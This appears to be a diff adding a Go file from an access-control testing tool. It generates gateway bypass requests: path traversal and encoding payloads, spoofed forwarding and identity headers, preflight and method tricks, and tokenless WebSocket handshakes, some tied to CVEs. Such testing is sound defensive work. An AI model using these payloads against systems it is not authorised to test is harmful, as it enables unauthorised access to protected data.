@@ -1,0 +1,177 @@
+package attack
+
+import (
+	"strconv"
+	"strings"
+)
+
+// pathLines are request targets that a gateway takes for one below open, and
+// some server for closed; both end in a slash.
+func pathLines(open, closed string) []string {
+	o, c := strings.TrimSuffix(open, "/"), strings.Trim(closed, "/")+"/secret"
+	lines := []string{}
+	// Dot segments, after which the rest is the closed path.
+	for _, dots := range []string{
+		"/..;/", "/..;x=y/", "/.;/..;/", "/;/../", ";/../", ";x/../", "/x;/../../",
+		"/%2e%2e/", "/%2E%2E/", "/.%2e/", "/%2e./", "/%2e%2e;/", "/%2e%2e%2f", "/..%2f", "/..%2F", "%2f../", "%2f..%2f", "/%2f../../",
+		"/%252e%252e%252f", "/%252e%252e/", "/..%252f",
+		"/../", "/./../", "//../", "/x/../../", "//x/../../../", "/.//../",
+		`\..\`, `/..\`, `\../`, "/..%5c", "%5c..%5c", "/..%255c", "/%2e%2e%5c",
+		"/..%00/", "%00/../", "/%00/../../", "/..%09/", "/..%0d%0a/", "/..%20/", "/..%23/", "/..%3f/", "/..%3b/",
+		"/%c0%ae%c0%ae/", "/..%c0%af", "%c0%af..%c0%af", "/%e0%80%ae%e0%80%ae/", "/%u002e%u002e/", "/..%u002f", "/.../../../", "/...%20/../../",
+	} {
+		lines = append(lines, o+dots+c)
+	}
+	return append(lines,
+		"//"+strings.TrimPrefix(o, "/")+"/../"+c,
+		"/"+o+"/../"+c,
+		strings.ToUpper(o)+"/x",
+		"/"+c+"?x="+open,
+		"/"+c+"?/.."+open+"x",
+		"/"+c+"%23"+open,
+		"/"+c+"#"+open,
+		"/"+c+";"+open+"health",
+		"/"+c+"%3b"+open,
+		"/"+c+"%3f"+open,
+		"/"+c+"%00"+open,
+		"/"+c+"/..;"+open,
+		"/"+c+"/%2e%2e/%2e%2e"+open,
+		"/"+c+"/..%2f..%2f"+strings.TrimPrefix(open, "/"),
+		o+"-not/x",
+		o+".not/x",
+		o+"%2fx",
+		o+"#/../"+c,
+		"http://{host}/"+c,
+		"http://{host}"+o+"/../"+c,
+		"http://{host}/"+c+"#"+open,
+		"http://{host}/"+c+"?"+open,
+		"https://{host}"+o+"/..;/"+c,
+		strings.TrimPrefix(open, "/")+"../"+c,
+		"*",
+	)
+}
+
+// pathAttacks: nobody asks for a guarded path in words that look like a public
+// one. `GET /public/..;/guarded/secret`.
+func pathAttacks(t *Target) []Attack {
+	var out []Attack
+	for _, open := range []struct {
+		id     string
+		need   Control
+		prefix string
+		of     func(*Target) string
+	}{
+		{"public", public, t.Public, func(t *Target) string { return t.Public }},
+		{"optional", optional, t.Optional, func(t *Target) string { return t.Optional }},
+	} {
+		for i, line := range pathLines(open.prefix, t.Guarded) {
+			out = append(out, Attack{
+				ID: "path/" + open.id + "-" + strconv.Itoa(i), Mechanism: pathMechanism,
+				Needs: []Control{guarded, open.need}, Request: anonymous(line), Judge: outside(open.of),
+			})
+		}
+	}
+	return out
+}
+
+// pathHeaderAttacks: nobody asks for a guarded path, and a header says that it is
+// another, or that nobody is somebody. `GET /guarded/x` + `X-Forwarded-Uri: /public/x`.
+func pathHeaderAttacks(t *Target) []Attack {
+	var out []Attack
+	inPublic := func(t *Target) string { return t.Public }
+	add := func(id string, advisories []string, request Request, needs ...Control) {
+		out = append(out, Attack{
+			ID: "path/" + id, Mechanism: pathMechanism, Advisories: advisories,
+			Needs: append(needs, guarded), Request: request, Judge: outside(inPublic),
+		})
+	}
+	closed := t.Guarded + "secret"
+	for _, name := range []string{
+		"X-Forwarded-Uri", "X-Forwarded-Path", "X-Forwarded-Prefix", "X-Original-URL", "X-Original-URI", "X-Rewrite-URL",
+		"X-Envoy-Original-Path", "X-Request-URI", "X-Replaced-Path", "Referer",
+	} {
+		add("header-"+strings.ToLower(name), []string{"CVE-2026-40575"}, anonymous(closed, Field{name, t.Public + "x"}))
+	}
+	for _, name := range pathOverrides {
+		add("override-"+strings.ToLower(name), []string{"CVE-2018-14773"}, anonymous(t.Public+"x", Field{name, closed}), public)
+	}
+	for _, f := range []Field{
+		{"User-Agent", "GoogleHC/1.0"}, {"User-Agent", "kube-probe/1.31"}, {"User-Agent", "ELB-HealthChecker/2.0"},
+		{"X-Forwarded-For", "127.0.0.1"}, {"X-Real-IP", "127.0.0.1"}, {"X-Forwarded-Host", "localhost"}, {"Forwarded", "for=127.0.0.1"},
+		{"X-Forwarded-Method", "OPTIONS"}, {"X-HTTP-Method-Override", "OPTIONS"}, {"X-Forwarded-Proto", "https"},
+		{t.Identity, "{victim}"}, {"Authorization", ""}, {"Authorization", "Basic YTpi"}, {"Authorization", "Bearer"}, {"Authorization", "Bearer "},
+		{"Cookie", "access_token=x"}, {"X-Forwarded-User", "{victim}"}, {"Remote-User", "{victim}"},
+	} {
+		id := strings.Map(func(r rune) rune {
+			if r == ' ' || r == '/' || r == '{' || r == '}' {
+				return '-'
+			}
+			return r
+		}, strings.ToLower(f.Name+"="+f.Value))
+		add("claims-"+id, []string{"CVE-2026-34457"}, anonymous(closed, f))
+	}
+	options := func(header ...Field) Request { return Request{Method: "OPTIONS", Path: closed, Header: header} }
+	origin, method := Field{"Origin", "https://h5.example.com"}, Field{"Access-Control-Request-Method", "GET"}
+	add("preflight-bare", nil, options())
+	add("preflight-without-method", nil, options(origin))
+	add("preflight-without-origin", nil, options(method))
+	add("preflight-forwarded", nil, options(origin, method))
+	add("preflight-as-get", nil, anonymous(closed, origin, method))
+	add("method-head", nil, Request{Method: "HEAD", Path: closed})
+	add("method-unknown", nil, Request{Method: "PROPFIND", Path: closed})
+	add("method-lower", nil, Request{Method: "get", Path: closed})
+	return out
+}
+
+// pathOverrides are headers whose URL some frameworks serve in place of the
+// request's: Symfony and Zend did, IIS with its rewrite module does.
+var pathOverrides = []string{"X-Original-URL", "X-Rewrite-URL"}
+
+// handshakeAttacks: a WebSocket handshake is a request like any other.
+func handshakeAttacks(t *Target) []Attack {
+	request := handshake(t.Guarded + "secret")
+	request.Header = request.Header[1:] // no token
+	protocol := request
+	protocol.Header = append(protocol.Header, Field{"Sec-WebSocket-Protocol", "bearer, nonsense"})
+	var out []Attack
+	for id, r := range map[string]Request{"plain": request, "with-a-protocol": protocol} {
+		out = append(out, Attack{
+			ID: "path/handshake-" + id, Mechanism: pathMechanism, Protocols: h1Only, Needs: []Control{guarded}, Request: r, Judge: served,
+		})
+	}
+	return out
+}
+
+// policyAttacks: the attack user asks for a path that needs more than the user
+// has, in words that look like another.
+func policyAttacks(t *Target) []Attack {
+	p := strings.Trim(t.Phone, "/")
+	lines := []string{
+		"/x/../" + p + "/secret", "/x/..;/" + p + "/secret", "/x/%2e%2e/" + p + "/secret", "/x/..%2f" + p + "/secret", "/x%2f..%2f" + p + "/secret",
+		"//" + p + "/secret", "/./" + p + "/secret", "/" + p + "//secret", "/" + p + "/./secret", "/" + p + ";x/secret", "/;/" + p + "/secret",
+		"/" + p + "%2fsecret", "/%2f" + p + "/secret", "/" + p + `\secret`, `\` + p + `\secret`, "/" + p + "%5csecret", "/" + p + "%00/secret",
+		"/" + escapeFirst(p) + "/secret", "/" + doubleEscapeFirst(p) + "/secret",
+		"/" + strings.ToUpper(p) + "/secret", "/" + strings.ToUpper(p[:1]) + p[1:] + "/Secret",
+		"/" + p + "/secret/", "/" + p + "/%73ecret", "/" + p + "/secret;x", "/" + p + "/secret%20", "/" + p + "%20/secret", "/" + p + "./secret", "/" + p + "/secret.", "/" + p + "/secret%00.css",
+		"/" + p + "/secret?x", "/" + p + "/secret#x", "/" + p + "/secret%23x", "/" + p + "/secret%3fx",
+		"http://{host}/" + p + "/secret", "http://{host}/x/../" + p + "/secret", t.Public + "../" + p + "/secret", t.Optional + "..;/" + p + "/secret",
+		"/" + p + "/%c0%ae/secret", "/x/%c0%ae%c0%ae/" + p + "/secret",
+	}
+	var out []Attack
+	for i, line := range lines {
+		out = append(out, Attack{
+			ID: "policy/path-" + strconv.Itoa(i), Mechanism: policyMechanism, Needs: []Control{policy}, Request: get(line), Judge: inside,
+		})
+	}
+	for _, name := range pathOverrides {
+		out = append(out, Attack{
+			ID: "policy/header-" + strings.ToLower(name), Mechanism: policyMechanism, Advisories: []string{"CVE-2018-14773"},
+			Needs: []Control{policy}, Request: get(t.Guarded+"x", Field{name, t.Phone + "secret"}), Judge: inside,
+		})
+	}
+	return out
+}
+
+func escapeFirst(s string) string { return "%" + strconv.FormatInt(int64(s[0]), 16) + s[1:] }
+
+func doubleEscapeFirst(s string) string { return "%25" + strconv.FormatInt(int64(s[0]), 16) + s[1:] }
